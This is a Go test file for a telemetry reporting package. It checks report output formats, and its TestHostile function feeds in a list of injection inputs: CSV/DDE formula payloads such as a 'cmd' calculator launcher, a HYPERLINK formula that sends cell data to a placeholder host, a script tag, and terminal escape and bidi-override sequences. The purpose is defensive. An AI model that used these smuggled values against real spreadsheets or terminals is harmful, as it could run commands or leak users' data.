package report_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/spanpipe/spanpipe/internal/report"
	"github.com/spanpipe/spanpipe/internal/store"
	"github.com/spanpipe/spanpipe/internal/store/storetest"
	"github.com/spanpipe/spanpipe/internal/view"
	"github.com/spanpipe/spanpipe/telemetry/record"
	"github.com/spanpipe/spanpipe/telemetry/semconv"
)

var update = flag.Bool("update", false, "write the golden files anew")

// fortnight stores two weeks of three clients that use four servers. In the second week, searches of files are slower.
func fortnight(t *testing.T) []report.Session {
	t.Helper()
	dir := t.TempDir()
	for day := range 15 {
		for i, server := range storetest.Servers() {
			if (day+i)%3 == 0 || i == 3 && day < 5 {
				continue
			}
			if day > 7 && i == 0 {
				server.Tools[3].Median *= 3
			}
			_, err := storetest.Make(dir, storetest.Session{
				Server: server, Client: record.Peer{Name: []string{"claude-code", "cursor-vscode", "codex"}[(day+i)%3], Version: "2"},
				Start: until.AddDate(0, 0, day-15).Add(time.Duration(i) * time.Hour), Calls: 90 - 20*i, Every: 40 * time.Second,
				End: storetest.End((day + i) % 3), Seed: uint64(10*day + i),
			})
			if err != nil {
				t.Fatal(err)
			}
		}
	}
	return read(t, dir)
}

// read returns the sessions of a store.
func read(t *testing.T, dir string) (all []report.Session) {
	t.Helper()
	stored, err := store.Open(dir).Sessions()
	if err != nil {
		t.Fatal(err)
	}
	for i := range stored {
		s := &stored[i]
		all = append(all, report.Session{
			Name: s.Name, Server: s.ServerName(), Client: s.Client.Name, Launched: s.Launched, Ended: s.Ended, Digest: s.Digest,
		})
	}
	return all
}

// TestGolden compares reports with files, in every format; tables also on a wide terminal.
func TestGolden(t *testing.T) {
	all := fortnight(t)
	for _, by := range []report.By{report.ByTool, report.ByServer, report.ByClient, report.ByDay} {
		o := week(by)
		o.Stored = until.AddDate(0, 0, -15)
		r := report.Make(all, o)
		golden(t, string(by)+"-80.txt", text(t, r, 80, false))
		golden(t, string(by)+"-140-all.txt", text(t, r, 140, true))
		var out bytes.Buffer
		encoder := json.NewEncoder(&out)
		encoder.SetIndent("", "  ")
		if err := encoder.Encode(r); err != nil {
			t.Error(err)
		}
		golden(t, string(by)+".json", out.String())
		out.Reset()
		if err := r.CSV(&out); err != nil {
			t.Error(err)
		}
		golden(t, string(by)+".csv", out.String())
		out.Reset()
		if err := r.Markdown(&out, time.UTC); err != nil {
			t.Error(err)
		}
		golden(t, string(by)+".md.txt", out.String())
	}
	o := week(report.ByTool)
	o.Failed, o.Stored = true, until.AddDate(0, 0, -10)
	golden(t, "failed-80.txt", text(t, report.Make(all, o), 80, false))
	o = report.Options{Window: report.Window{Since: until.AddDate(0, 0, -15), Until: until}, By: report.ByTool}
	golden(t, "all-80.txt", text(t, report.Make(all, o), 80, false))
}

// TestTroubles shows what a quiet store has none of: calls that hang, that timed out, that were refused, taken back or left
// alone, and one that is new.
func TestTroubles(t *testing.T) {
	at := until.Add(-3 * time.Hour)
	s := stored{Session: report.Session{Server: "tickets", Client: "claude-code", Launched: at.AddDate(0, 0, -9), Live: true}}
	add := func(n int, op record.Operation) {
		for range n {
			op.Number, op.Direction = uint64(len(s.operations)+1), record.ToServer
			op.Start = at.Add(time.Duration(op.Number) * time.Minute)
			op.End = op.Start.Add(op.Duration)
			s.operations = append(s.operations, op)
		}
	}
	const second = time.Second
	add(5, record.Operation{Method: semconv.ToolsCall, Target: "sync_board", Duration: 60 * second, ErrorType: semconv.ErrTimeout,
		Class: record.Timeout, Hung: true})
	add(13, record.Operation{Method: semconv.ToolsCall, Target: "sync_board", Duration: 41 * second, Answered: true, ResponseSize: 1600})
	add(3, record.Operation{Method: semconv.ToolsCall, Target: "assign_ticket", Duration: second / 256, Answered: true, Code: "-32602",
		Class: record.InvalidParams})
	add(2, record.Operation{Method: semconv.ToolsCall, Target: "assign_ticket", ErrorType: semconv.ErrCancelled, Class: record.Cancelled})
	add(1, record.Operation{Method: semconv.ToolsCall, Target: "assign_ticket", ErrorType: semconv.ErrServerExit, Class: record.Unavailable})
	add(1, record.Operation{Method: semconv.ToolsCall, Target: "assign_ticket", ErrorType: semconv.ErrAbandoned, Class: record.Abandoned})
	add(2, record.Operation{Method: semconv.PromptsGet, Target: "triage", Duration: second, Answered: true, ErrorType: "-32603",
		Code: "-32603", Class: record.Internal})
	add(4, record.Operation{Method: semconv.ResourcesRead, Resource: "ticket://{id}", Duration: second, Answered: true, ResponseSize: 90})
	for i := range s.operations[:9] { // in the window before
		op := &s.operations[5+i]
		op.Start, op.End = op.Start.AddDate(0, 0, -8), op.End.AddDate(0, 0, -8)
	}
	s.open = []record.Operation{{
		Number: 999, Direction: record.ToServer, Method: semconv.ToolsCall, Target: "sync_board", Start: until.Add(-time.Minute), Hung: true,
	}}
	for _, by := range report.Bys() {
		o := week(by)
		o.Stored = s.Launched
		golden(t, "troubles-"+string(by)+"-120.txt", text(t, report.Make([]report.Session{s.session()}, o), 120, false))
	}
}

// TestNarrow: a name is cut for the columns beside it, so that the tables of peers fit 80 as well.
func TestNarrow(t *testing.T) {
	name := "a server with a long name"
	s := stored{Session: report.Session{Server: name, Client: name, Launched: until.Add(-time.Hour)}}
	for n := range 20 {
		at := until.Add(time.Duration(n-30) * time.Minute)
		s.operations = append(s.operations, record.Operation{
			Number: uint64(n + 1), Direction: record.ToServer, Method: semconv.ToolsCall, Target: "wait", Start: at,
			End: at.Add(150 * time.Millisecond), Duration: 150 * time.Millisecond, Answered: true, ResponseSize: 94_000,
		})
	}
	for _, by := range []report.By{report.ByServer, report.ByClient} {
		if got := text(t, report.Make([]report.Session{s.session()}, week(by)), 80, false); !strings.Contains(got, "…") {
			t.Errorf("nothing is cut:\n%s", got)
		}
	}
}

// TestCost: an amount of money is written out, however small it is.
func TestCost(t *testing.T) {
	for tokens, want := range map[int64]string{
		1_500_000: "≈4.50 EUR for results", 30_000: "≈0.090 EUR for results", 21: "≈0.000063 EUR for results", 0: "≈0.00 EUR for results",
	} {
		at := until.Add(-time.Hour)
		s := stored{Session: report.Session{Server: "files", Client: "code", Launched: at}, operations: []record.Operation{{
			Number: 1, Direction: record.ToServer, Method: semconv.ToolsCall, Target: "read", Start: at, End: at, Answered: true,
			ResponseTokens: tokens,
		}}}
		o := week(report.ByTool)
		o.Price, o.Currency = 3, "EUR"
		if got := text(t, report.Make([]report.Session{s.session()}, o), 0, false); !strings.Contains(got, want) {
			t.Errorf("%d tokens: want %q in\n%s", tokens, want, got)
		}
	}
}

// text returns the report as a terminal of so many columns shows it, and checks that it fits.
func text(t *testing.T, r *report.Report, columns int, all bool) string {
	t.Helper()
	var out bytes.Buffer
	if err := r.Text(&out, &view.Screen{Columns: columns, Paint: view.Plain, Zone: time.UTC}, all); err != nil {
		t.Error(err)
	}
	for line := range strings.Lines(out.String()) {
		if line = strings.TrimSuffix(line, "\n"); columns > 0 && view.Width(line) > columns {
			t.Errorf("%d columns: %s", view.Width(line), line)
		}
	}
	return out.String()
}

func golden(t *testing.T, name, got string) {
	t.Helper()
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("%s differs (-update writes it anew):\n%s", name, got)
	}
}

// hostile are names that peers may choose.
var hostile = []string{
	`=HYPERLINK("http://x/"&A1)`, "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", " =1", "\t=1", "＝1", "'quoted",
	"a|b", "`a`", "a``|b`", "<script>alert(1)</script>", "[x](http://x)", "@someone", "**b**", "a\nb", "\x1b[31mred", "\u202eabc",
	"名前の長い道具", strings.Repeat("long", 40), "\xff", "", " ",
}

// TestHostile: no name leaves its cell, begins a formula, or controls a terminal.
func TestHostile(t *testing.T) {
	s := stored{Session: report.Session{Server: "=x|y", Client: "\x1b]0;t\x07", Launched: until.Add(-time.Hour), Live: true}}
	for i, name := range hostile {
		for j := range 5 {
			s.operations = append(s.operations, record.Operation{
				Number: uint64(5*i + j + 1), Direction: record.ToServer, Method: semconv.ToolsCall, Target: name, Answered: true,
				ErrorType: semconv.ErrTool, Class: record.Class(name), Start: until.Add(-time.Minute), End: until,
			})
		}
	}
	r := report.Make([]report.Session{s.session()}, week(report.ByTool))
	if len(r.Rows) != len(hostile) {
		t.Fatalf("%d rows", len(r.Rows))
	}
	var table, markdown, comma bytes.Buffer
	for _, columns := range []int{0, 80} {
		table.WriteString(text(t, r, columns, true))
	}
	if err := r.Markdown(&markdown, time.UTC); err != nil {
		t.Error(err)
	}
	if err := r.CSV(&comma); err != nil {
		t.Error(err)
	}
	for _, out := range []string{table.String(), markdown.String(), comma.String()} {
		if strings.ContainsAny(strings.ReplaceAll(out, "\n", ""), "\x00\x07\x1b\t\r\u202e\u009b") {
			t.Errorf("a control character:\n%q", out)
		}
	}
	rows, err := csv.NewReader(&comma).ReadAll()
	if err != nil || len(rows) != len(hostile)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if strings.IndexAny(strings.TrimSpace(cell), "=+@＝") == 0 || strings.HasPrefix(cell, "-1+") {
				t.Errorf("a formula: %s", cell)
			}
		}
	}
	checkMarkdown(t, markdown.String())
}

// checkMarkdown checks that all rows of a table have as many cells as its head, and that nothing of a name is outside of
// code.
func checkMarkdown(t *testing.T, text string) {
	t.Helper()
	want := 0
	for line := range strings.Lines(text) {
		if !strings.HasPrefix(line, "|") {
			continue
		}
		cells := strings.Count(strings.ReplaceAll(line, `\|`, ""), "|")
		if want == 0 {
			want = cells
			continue
		}
		first := strings.TrimSpace(strings.SplitN(strings.ReplaceAll(line, `\|`, ""), "|", 3)[1])
		if cells != want || strings.Contains(line, "x") && !strings.HasPrefix(first, "`") {
			t.Errorf("%d cells, want %d: %s", cells, want, line)
		}
	}
	if want == 0 {
		t.Errorf("no table:\n%s", text)
	}
}
